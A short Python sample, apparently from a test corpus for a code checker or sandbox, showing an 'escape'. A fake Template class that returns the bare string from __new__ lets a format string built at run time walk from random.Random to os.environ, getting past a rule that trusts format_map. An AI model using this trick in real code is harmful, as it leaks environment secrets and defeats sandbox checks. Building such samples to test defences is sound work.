# family: format
# Escape: the call form `Template(x).format_map(...)` is trusted when the class defines format_map itself. Its
# __new__ hands back the string argument unchanged, so format_map is str.format_map on a template built with
# %-formatting at run time: "{r.__init__.__globals__[_os].environ}" walks random.Random to os.environ.
import random


class Template:
    def __new__(cls, text: str):
        return text

    def format_map(self, values) -> str:
        return ""


def tool(u: str = "__") -> str:
    return Template("{r.%sinit%s.%sglobals%s[_os].environ}" % (u, u, u, u)).format_map({"r": random.Random()})
